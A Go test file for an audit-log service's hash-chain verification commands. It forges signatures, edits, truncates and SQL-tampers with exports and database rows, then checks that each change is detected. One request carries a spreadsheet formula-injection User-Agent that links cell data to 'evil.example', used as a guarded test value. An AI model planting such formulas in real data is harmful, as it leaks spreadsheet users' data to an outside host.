package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/auditlogd/auditlogd/internal/app"
	"github.com/auditlogd/auditlogd/internal/auth"
	"github.com/auditlogd/auditlogd/internal/integrity"
	"github.com/auditlogd/auditlogd/internal/testenv"
)

// The hash chain's commands on real data (docs/API.md §9): `auditlogd verify`
// over a database the services wrote, and `auditlogd verify-export` over
// exports downloaded from a running server, with the head its API returned
// and the keys it publishes. Helpers are prefixed c.

const cSecret = "chain-test-secret-0123456789-abcdefghijklmnop"

// cKeyFile writes a fresh Ed25519 signing key as PKCS #8 PEM (what
// AUDITLOG_SIGNING_KEY names) and returns its path and signer.
func cKeyFile(t *testing.T) (string, *integrity.Signer) {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "signing-key.pem")
	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
		t.Fatal(err)
	}
	return path, integrity.NewSigner(key)
}

// cServer is auditlogd serving on a fresh database, with a user who is the
// admin of a BUSINESS workspace that has some history.
type cServer struct {
	app    *app.App
	srv    *httptest.Server
	getenv func(string) string
	admin  string // token
	ws     string
}

func cStart(t *testing.T, db testenv.DB) *cServer {
	t.Helper()
	keyPath, _ := cKeyFile(t)
	vars := map[string]string{
		"AUDITLOG_DATABASE_URL":               db.URL,
		"AUDITLOG_JWT_SECRET":                 cSecret,
		"AUDITLOG_EXPORT_SECRET":              cSecret,
		"AUDITLOG_SIGNING_KEY":                keyPath,
		"AUDITLOG_RATE_LIMIT_RPS":             "0",
		"AUDITLOG_JWT_EMAIL_VERIFIED_DEFAULT": "true",
	}
	srv := httptest.NewUnstartedServer(nil)
	vars["AUDITLOG_PUBLIC_URL"] = "http://" + srv.Listener.Addr().String()
	s := &cServer{srv: srv, getenv: xEnv(vars)}
	s.app = xOpen(t, s.getenv, time.Now())
	srv.Config.Handler = s.app.Handler
	srv.Start()
	t.Cleanup(func() {
		srv.Close()
		s.app.Close()
	})
	s.admin = s.token(t, "u-alice", "alice@example.com", "")
	s.gql(t, s.admin, `{ viewer { id } }`, nil)
	bob := s.token(t, "u-bob", "bob@example.com", "")
	s.gql(t, bob, `{ viewer { id } }`, nil)
	var out struct{ CreateWorkspace struct{ ID string } }
	s.decode(t, s.gql(t, s.admin, `mutation { createWorkspace(input: {name: "Acme"}) { id } }`, nil), &out)
	s.ws = out.CreateWorkspace.ID
	s.gql(t, s.token(t, "billing", "", "billing:write"), `mutation($w: ID!) { setWorkspacePlan(workspaceId: $w, plan: BUSINESS) { id } }`, map[string]any{"w": s.ws})
	for _, m := range []struct {
		query, userAgent string
	}{
		{`mutation($w: ID!) { addMember(input: {workspaceId: $w, email: "bob@example.com", role: MEMBER}) { role } }`, ""},
		{`mutation($w: ID!) { createInviteLink(input: {workspaceId: $w, kind: EMAIL, email: "carol@example.com"}) { token } }`,
			`=HYPERLINK("https://evil.example/?"&A1,"Open")`},
		{`mutation($w: ID!) { updateMemberRole(input: {workspaceId: $w, userId: "u-bob", role: ADMIN}) { role } }`, ""},
		{`mutation($w: ID!) { createInviteLink(input: {workspaceId: $w, kind: PUBLIC}) { token } }`, "-1"},
		{`mutation($w: ID!) { removeMember(workspaceId: $w, userId: "u-bob") { removedUserId } }`, ""},
	} {
		s.gqlAs(t, s.admin, m.userAgent, m.query, map[string]any{"w": s.ws})
	}
	return s
}

func (s *cServer) token(t *testing.T, sub, email, scope string) string {
	t.Helper()
	tok, err := s.app.Verifier.Sign(auth.Claims{Subject: sub, Email: email, Scope: scope, TTL: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// gql posts a GraphQL operation that must succeed and returns the whole
// response body.
func (s *cServer) gql(t *testing.T, token, query string, vars map[string]any) []byte {
	t.Helper()
	return s.gqlAs(t, token, "", query, vars)
}

func (s *cServer) gqlAs(t *testing.T, token, userAgent, query string, vars map[string]any) []byte {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"query": query, "variables": vars})
	req, _ := http.NewRequest(http.MethodPost, s.srv.URL+"/graphql", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer "+token)
	if userAgent != "" {
		req.Header.Set("User-Agent", userAgent)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	var errs struct{ Errors []any }
	_ = json.Unmarshal(b, &errs)
	if res.StatusCode != http.StatusOK || len(errs.Errors) > 0 {
		t.Fatalf("%s: status %d: %s", query, res.StatusCode, b)
	}
	return b
}

func (s *cServer) decode(t *testing.T, body []byte, out any) {
	t.Helper()
	var r struct{ Data json.RawMessage }
	if err := json.Unmarshal(body, &r); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(r.Data, out); err != nil {
		t.Fatalf("%v: %s", err, body)
	}
}

// cExport is an export as an auditor receives it: the file, and the
// GraphQL response holding its signed head, saved side by side.
type cExport struct {
	file, head string
	body       string
	headSeq    int64
}

// export requests an export over GraphQL, saves the whole response as the
// head file, and downloads the file without a token.
func (s *cServer) export(t *testing.T, format string, filter map[string]any) cExport {
	t.Helper()
	resp := s.gql(t, s.admin, `mutation($w: ID!, $f: ExportFormat!, $filter: AuditLogFilter) {
  exportAuditLog(input: {workspaceId: $w, format: $f, filter: $filter}) { url head { workspaceId sequence hash signedAt keyId signature } } }`,
		map[string]any{"w": s.ws, "f": format, "filter": filter})
	var out struct {
		ExportAuditLog struct {
			URL  string
			Head struct{ Sequence int64 }
		}
	}
	s.decode(t, resp, &out)
	dir := t.TempDir()
	ex := cExport{file: filepath.Join(dir, "export."+strings.ToLower(format)), head: filepath.Join(dir, "head.json"),
		headSeq: out.ExportAuditLog.Head.Sequence}
	res, err := http.Get(out.ExportAuditLog.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("download: status %d: %s", res.StatusCode, b)
	}
	ex.body = string(b)
	for path, data := range map[string][]byte{ex.file: b, ex.head: resp} {
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return ex
}

// edited writes the export with the first old replaced by new.
func (ex cExport) edited(t *testing.T, old, new string) string {
	t.Helper()
	if !strings.Contains(ex.body, old) {
		t.Fatalf("%q is not in the export:\n%s", old, ex.body)
	}
	path := filepath.Join(t.TempDir(), filepath.Base(ex.file))
	if err := os.WriteFile(path, []byte(strings.Replace(ex.body, old, new, 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// withoutLine writes the export without its line i (0 is the first).
func (ex cExport) withoutLine(t *testing.T, i int) string {
	t.Helper()
	sep := "\r\n"
	if strings.HasSuffix(ex.file, ".json") {
		sep = "\n"
	}
	lines := strings.Split(ex.body, sep)
	path := filepath.Join(t.TempDir(), filepath.Base(ex.file))
	if err := os.WriteFile(path, []byte(strings.Join(slices.Delete(lines, i, i+1), sep)), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// resigned writes ex's head signed by signer, claiming keyID.
func (ex cExport) resigned(t *testing.T, signer *integrity.Signer, keyID string) string {
	t.Helper()
	raw, err := os.ReadFile(ex.head)
	if err != nil {
		t.Fatal(err)
	}
	h, err := integrity.ParseSignedHead(raw)
	if err != nil {
		t.Fatal(err)
	}
	forged, err := signer.Sign(h.Head)
	if err != nil {
		t.Fatal(err)
	}
	if keyID != "" {
		forged.KeyID = keyID
	}
	b, _ := json.Marshal(forged)
	path := filepath.Join(t.TempDir(), "head.json")
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestVerifyExportOfRealExports downloads exports from a running server and
// checks them with `auditlogd verify-export`, keys fetched from the server's
// JWKS URL or saved to a file: untouched unfiltered exports are complete;
// edited, shortened or cut files, heads signed by another key, and filtered
// exports taken for whole ones are not.
func TestVerifyExportOfRealExports(t *testing.T) {
	t.Parallel()
	testenv.ForEachDB(t, func(t *testing.T, db testenv.DB) {
		t.Parallel()
		s := cStart(t, db)
		keysURL := s.srv.URL + "/.well-known/auditlog-keys.json"
		keysFile := filepath.Join(t.TempDir(), "keys.json")
		res, err := http.Get(keysURL)
		if err != nil {
			t.Fatal(err)
		}
		jwks, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if err := os.WriteFile(keysFile, jwks, 0o600); err != nil {
			t.Fatal(err)
		}
		_, other := cKeyFile(t)
		serverKeyID := s.app.Config.Signer.KeyID()

		for _, format := range []string{"CSV", "JSON"} {
			t.Run(format, func(t *testing.T) {
				// The log holds the workspace's creation, the five mutations
				// and the exports made before this one; an export's own event
				// comes after its head.
				whole := s.export(t, format, nil)
				n := whole.headSeq
				if n < 6 {
					t.Fatalf("the export's head is at sequence %d, want 6 or more", n)
				}
				// Rows 1, 2 (MEMBER_ADDED) and 4 (MEMBER_ROLE_UPDATED).
				filtered := s.export(t, format, map[string]any{"actions": []string{"MEMBER_ADDED", "MEMBER_ROLE_UPDATED"}})
				editRole, editAgent := ",MEMBER,ADMIN,", "evil.example"
				if format == "JSON" {
					editRole = `"previousRole":"MEMBER","role":"ADMIN"`
				}
				for _, tc := range []struct {
					name     string
					args     []string
					ok       bool
					complete bool
					checked  int64
					problems []string
				}{
					{"untouched-keys-from-the-url", []string{whole.file, "--head", whole.head, "--keys", keysURL}, true, true, n, nil},
					{"untouched-keys-from-a-file", []string{whole.file, "--head", whole.head, "--keys", keysFile}, true, true, n, nil},
					{"role-edited", []string{whole.edited(t, editRole, strings.Replace(editRole, "ADMIN", "MEMBER", 1)),
						"--head", whole.head, "--keys", keysURL}, false, false, n, []string{"HASH_MISMATCH@4"}},
					{"guarded-user-agent-edited", []string{whole.edited(t, editAgent, "good.example"),
						"--head", whole.head, "--keys", keysURL}, false, false, n, []string{"HASH_MISMATCH@3"}},
					{"middle-row-deleted", []string{whole.withoutLine(t, int(n)-3), "--head", whole.head, "--keys", keysURL},
						false, false, n - 1, []string{"SEQUENCE_GAP@4"}},
					{"newest-row-cut", []string{whole.withoutLine(t, 1), "--head", whole.head, "--keys", keysURL},
						false, false, n - 1, []string{fmt.Sprintf("HEAD_MISMATCH@%d", n)}},
					{"head-signed-by-another-key", []string{whole.file, "--head", whole.resigned(t, other, ""), "--keys", keysURL},
						false, false, n, nil},
					{"head-signed-by-another-key-naming-the-servers", []string{whole.file, "--head", whole.resigned(t, other, serverKeyID),
						"--keys", keysURL}, false, false, n, nil},
					{"filtered-export-verifies-its-rows", []string{filtered.file, "--head", filtered.head, "--keys", keysURL, "--filtered"},
						true, false, 3, nil},
					{"filtered-export-taken-for-a-whole-one", []string{filtered.file, "--head", filtered.head, "--keys", keysURL},
						false, false, 3, []string{"SEQUENCE_GAP@3", fmt.Sprintf("HEAD_MISMATCH@%d", filtered.headSeq)}},
					{"filtered-export-edited", []string{filtered.edited(t, editRole, strings.Replace(editRole, "ADMIN", "MEMBER", 1)),
						"--head", filtered.head, "--keys", keysURL, "--filtered"}, false, false, 3, []string{"HASH_MISMATCH@4"}},
				} {
					t.Run(tc.name, func(t *testing.T) {
						out, err := vRun(t, tc.args...)
						if (err == nil) != tc.ok || out["ok"] != tc.ok || out["complete"] != tc.complete {
							t.Errorf("error %v, ok %v, complete %v; want ok %v, complete %v: %v", err, out["ok"], out["complete"], tc.ok, tc.complete, out)
						}
						if out["checkedEvents"] != float64(tc.checked) {
							t.Errorf("checkedEvents %v, want %v", out["checkedEvents"], tc.checked)
						}
						if diff := cmp.Diff(tc.problems, vProblems(out)); diff != "" {
							t.Errorf("problems (-want +got):\n%s", diff)
						}
						wantSig := !strings.HasPrefix(tc.name, "head-signed-by-another-key")
						if out["signatureValid"] != wantSig {
							t.Errorf("signatureValid %v, want %v (%v)", out["signatureValid"], wantSig, out["signatureError"])
						}
						if tc.complete && (out["firstSequence"] != float64(1) || out["lastSequence"] != float64(n)) {
							t.Errorf("a complete export of sequences %v to %v, want 1 to %d", out["firstSequence"], out["lastSequence"], n)
						}
					})
				}
			})
		}
	})
}

// cVerifyRun runs `auditlogd verify` with args and returns its lines, by
// workspace.
func cVerifyRun(t *testing.T, getenv func(string) string, args ...string) (map[string]chainReport, error) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	err := run(context.Background(), append([]string{"verify"}, args...), getenv, &stdout, &stderr)
	out := map[string]chainReport{}
	for _, line := range strings.Split(strings.TrimSuffix(stdout.String(), "\n"), "\n") {
		if line == "" {
			continue
		}
		var r chainReport
		dec := json.NewDecoder(strings.NewReader(line))
		dec.DisallowUnknownFields()
		if jerr := dec.Decode(&r); jerr != nil {
			t.Fatalf("line %q: %v", line, jerr)
		}
		var keys map[string]json.RawMessage
		_ = json.Unmarshal([]byte(line), &keys)
		for _, k := range []string{"workspaceId", "ok", "checkedEvents", "firstSequence", "lastSequence", "head", "problems"} {
			if _, ok := keys[k]; !ok {
				t.Errorf("line %q has no %q", line, k)
			}
		}
		out[r.WorkspaceID] = r
	}
	return out, err
}

// TestVerifyCommandChecksEveryChain runs `auditlogd verify` over a database
// the services wrote: every workspace's line is ok with a head signed by the
// configured key; --workspace checks one; after an event is edited through
// SQL the command fails and names the problem in that workspace's line only.
func TestVerifyCommandChecksEveryChain(t *testing.T) {
	t.Parallel()
	testenv.ForEachDB(t, func(t *testing.T, db testenv.DB) {
		t.Parallel()
		keyPath, signer := cKeyFile(t)
		getenv := xEnv(map[string]string{
			"AUDITLOG_DATABASE_URL":  db.URL,
			"AUDITLOG_JWT_SECRET":    xSecret,
			"AUDITLOG_EXPORT_SECRET": xSecret,
			"AUDITLOG_SIGNING_KEY":   keyPath,
		})
		xHistory(t, getenv, time.Now()) // a workspace with four events
		a := xOpen(t, getenv, time.Now())
		defer a.Close()
		var first, second string
		for i, p := range []*auth.Principal{{Subject: "user-admin"}, {Subject: "user-member"}} {
			p.Email, p.EmailVerified = p.Subject+"@example.com", true
			ws, err := a.Workspaces.CreateWorkspace(context.Background(), p, fmt.Sprintf("Second %d", i))
			if err != nil {
				t.Fatal(err)
			}
			first, second = second, ws.ID
		}
		counts := map[string]int64{}
		rows, err := a.DB.Pools()[cPoolName(a)].Query("SELECT workspace_id, COUNT(*) FROM audit_events GROUP BY workspace_id")
		if err != nil {
			t.Fatal(err)
		}
		for rows.Next() {
			var ws string
			var n int64
			if err := rows.Scan(&ws, &n); err != nil {
				t.Fatal(err)
			}
			counts[ws] = n
		}
		rows.Close()
		if len(counts) != 3 {
			t.Fatalf("events in %d workspaces, want 3: %v", len(counts), counts)
		}

		lines, err := cVerifyRun(t, getenv)
		if err != nil {
			t.Fatalf("verify of an untouched database: %v", err)
		}
		if len(lines) != 3 {
			t.Fatalf("%d lines, want one per workspace (3): %v", len(lines), lines)
		}
		for ws, n := range counts {
			r, ok := lines[ws]
			if !ok || !r.OK || r.CheckedEvents != n || r.FirstSequence == nil || *r.FirstSequence != 1 ||
				r.LastSequence == nil || *r.LastSequence != n || len(r.Problems) != 0 || r.Head.Sequence != n || r.Head.WorkspaceID != ws {
				t.Errorf("workspace %s: %+v, want ok over sequences 1 to %d", ws, r, n)
			}
			if err := integrity.VerifyHead(r.Head, signer.JWKS()); err != nil {
				t.Errorf("workspace %s: the head does not verify with the configured key: %v", ws, err)
			}
		}

		one, err := cVerifyRun(t, getenv, "--workspace", second)
		if err != nil || len(one) != 1 || !one[second].OK {
			t.Errorf("verify --workspace %s: %v, %v", second, err, one)
		}

		if _, err := a.DB.Pools()[cPoolName(a)].Exec("UPDATE audit_events SET actor_id = 'user-mallory' WHERE workspace_id = ? AND sequence = 1", first); err != nil {
			t.Fatal(err)
		}
		lines, err = cVerifyRun(t, getenv)
		if err == nil || !strings.Contains(err.Error(), "1 of 3") {
			t.Errorf("verify after tampering: error %v, want 1 of 3 workspaces with problems", err)
		}
		for ws, r := range lines {
			want := []string(nil)
			if ws == first {
				want = []string{"HASH_MISMATCH@1"}
			}
			var got []string
			for _, p := range r.Problems {
				got = append(got, fmt.Sprintf("%s@%d", p.Kind, p.Sequence))
			}
			if diff := cmp.Diff(want, got); diff != "" || r.OK != (want == nil) || r.ProblemCount != int64(len(want)) {
				t.Errorf("workspace %s after tampering: ok %v, problems (-want +got):\n%s", ws, r.OK, diff)
			}
		}
		if one, err := cVerifyRun(t, getenv, "--workspace", second); err != nil || !one[second].OK {
			t.Errorf("verify --workspace of an untouched workspace: %v, %v", err, one)
		}
		if _, err := cVerifyRun(t, getenv, "--workspace", first); err == nil {
			t.Error("verify --workspace of the tampered workspace succeeded")
		}

		for _, args := range [][]string{{"--workspace", "01JNOSUCHWORKSPACE00000000"}, {"stray"}} {
			lines, err := cVerifyRun(t, getenv, args...)
			if err == nil || len(lines) != 0 {
				t.Errorf("verify %v: error %v, lines %v; want an error and no line", args, err, lines)
			}
		}
	})
}

// cPoolName is a pool of the app's database that can write.
func cPoolName(a *app.App) string {
	if _, ok := a.DB.Pools()["write"]; ok {
		return "write"
	}
	for name := range a.DB.Pools() {
		return name
	}
	return ""
}
